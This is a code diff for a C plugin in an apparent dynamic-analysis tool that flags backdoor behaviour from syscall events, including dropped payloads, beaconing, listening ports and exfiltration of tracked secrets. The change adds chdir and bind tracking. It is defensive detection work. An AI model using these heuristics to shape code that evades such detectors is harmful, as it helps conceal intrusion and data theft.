+		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload loaded", msg,
 		     ev->pid, ev->time_s, evidence, 2, rec);
 	} else if (path[0] == '/' && !in_workdir(st, path) &&
 		   (in_temp_dir(path) || under(path, st->home, st->home_len))) {
@@ -930,6 +1401,7 @@ static void on_fork(struct backdoor *st, const struct da_event *ev)
 	replace_text(&child->connect_text, parent->connect_text);
 	replace_text(&child->accept_text, parent->accept_text);
 	replace_text(&child->dup_text, parent->dup_text);
+	replace_text(&child->cwd, parent->cwd);
 	if (parent->secret)
 		give_secret(child, parent->secret, parent->secret_text, parent->secret_weak);
 	child->exfil_reported = parent->exfil_reported;
@@ -962,8 +1434,10 @@ static void on_write_like(struct backdoor *st, const struct da_event *ev)
 	if (!path)
 		return;
 	check_persistence(st, ev, path);
-	if (ev->err == 0 && ev->result >= 0)
+	if (ev->err == 0 && ev->result >= 0) {
 		note_dropped(st, path, ev);
+		note_work_write(st, path, ev);
+	}
 }
 
 static void on_net(struct backdoor *st, const struct da_event *ev)
@@ -972,14 +1446,16 @@ static void on_net(struct backdoor *st, const struct da_event *ev)
 	bool ok = ev->err == 0 || ev->err == EINPROGRESS;
 	switch (ev->kind) {
 	case DA_EV_NET_CONNECT:
-		note_connect_dest(st, ev);
+		note_contact(st, ev, false);
 		if (!p || !(ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc)))
 			break;
 		p->connected = true;
 		if (!p->connect_text)
 			p->connect_text = copy_text(ev->text);
-		if (ok)
+		if (ok) {
 			fd_track(p, ev->fd, FD_CONNECTED, ev->addr);
+			note_peer(p, ev->addr);
+		}
 		check_exfiltration(st, p, ev);
 		break;
 	case DA_EV_NET_ACCEPT:
@@ -992,15 +1468,26 @@ static void on_net(struct backdoor *st, const struct da_event *ev)
 		fd_track(p, ev->target_fd, FD_ACCEPTED, ev->addr);
 		break;
 	case DA_EV_NET_SEND:
+		if (is_explicit_send(ev))
+			note_contact(st, ev, true);
 		if (p)
 			check_exfiltration(st, p, ev);
 		break;
 	case DA_EV_NET_LISTEN:
-		if (ev->port > 0 && st->n_listen < MAX_LISTEN)
-			st->listen_ports[st->n_listen++] = ev->port;
+	case DA_EV_NET_BIND:
+		if (ev->err == 0 && ev->family != AF_UNIX && !starts_with(ev->fd_desc, "socket:unix"))
+			note_own_port(st, ev->port);
 		break;
 	default: break;
 	}
+	note_own_port(st, local_port(ev->fd_desc));
+}
+
+static void on_chdir(struct backdoor *st, const struct da_event *ev)
+{
+	struct proc *p = proc_get(st, ev->pid, ev->ppid);
+	if (p && ev->path && ev->path[0] == '/' && ev->err == 0 && ev->result >= 0)
+		replace_text(&p->cwd, ev->path);
 }
 
 static void on_memfd(struct backdoor *st, const struct da_event *ev)
@@ -1085,7 +1572,9 @@ static int backdoor_on_event(void *state, const struct da_event *ev, char *err, 
 	case DA_EV_NET_CONNECT:
 	case DA_EV_NET_ACCEPT:
 	case DA_EV_NET_SEND:
+	case DA_EV_NET_BIND:
 	case DA_EV_NET_LISTEN: on_net(st, ev); break;
+	case DA_EV_FILE_CHDIR: on_chdir(st, ev); break;
 	case DA_EV_SYSCALL_OTHER: on_other(st, ev); break;
 	default: break;
 	}
@@ -1097,10 +1586,10 @@ static int backdoor_finish(void *state, char *err, size_t errlen)
 	struct backdoor *st = state;
 	const struct da_host *host = st->host;
 	report_beacons(st);
-	if (st->procs_dropped || st->drops_dropped || st->dests_dropped)
+	if (st->procs_dropped || st->drops_dropped || st->dests_dropped || st->works_dropped)
 		host->log(host, 1,
-			  "backdoor: state full, not tracked: %zu processes, %zu files, %zu destinations",
-			  st->procs_dropped, st->drops_dropped, st->dests_dropped);
+			  "backdoor: state full, not tracked: %zu processes, %zu files, %zu destinations, %zu workdir files",
+			  st->procs_dropped, st->drops_dropped, st->dests_dropped, st->works_dropped);
 	if (st->n_findings == 0) {
 		host->set_summary(host, "None observed", "No dynamic links, sockets, or file drops");
 		return 0;
@@ -1125,6 +1614,10 @@ static void backdoor_destroy(void *state)
 		free(st->drops[i].path);
 		free(st->drops[i].text);
 	}
+	for (size_t i = 0; i < st->n_works; i++) {
+		free(st->works[i].path);
+		free(st->works[i].text);
+	}
 	for (size_t i = 0; i < st->n_dests; i++)
 		free(st->dests[i].first_text);
 	free(st);
@@ -1142,7 +1635,8 @@ static const struct da_plugin backdoor_plugin = {
 		KIND_BIT(DA_EV_FILE_OPEN) | KIND_BIT(DA_EV_FILE_RENAME) | KIND_BIT(DA_EV_FILE_LINK) |
 		KIND_BIT(DA_EV_FILE_MMAP_EXEC) | KIND_BIT(DA_EV_FILE_WRITE) |
 		KIND_BIT(DA_EV_FILE_MEMFD) | KIND_BIT(DA_EV_NET_CONNECT) | KIND_BIT(DA_EV_NET_ACCEPT) |
-		KIND_BIT(DA_EV_NET_SEND) | KIND_BIT(DA_EV_NET_LISTEN),
+		KIND_BIT(DA_EV_NET_SEND) | KIND_BIT(DA_EV_NET_LISTEN) | KIND_BIT(DA_EV_NET_BIND) |
+		KIND_BIT(DA_EV_FILE_CHDIR),
 		KIND_BIT(DA_EV_SYSCALL_OTHER), /* kind 90 lives in the second word */
 	},
 	.init = backdoor_init,
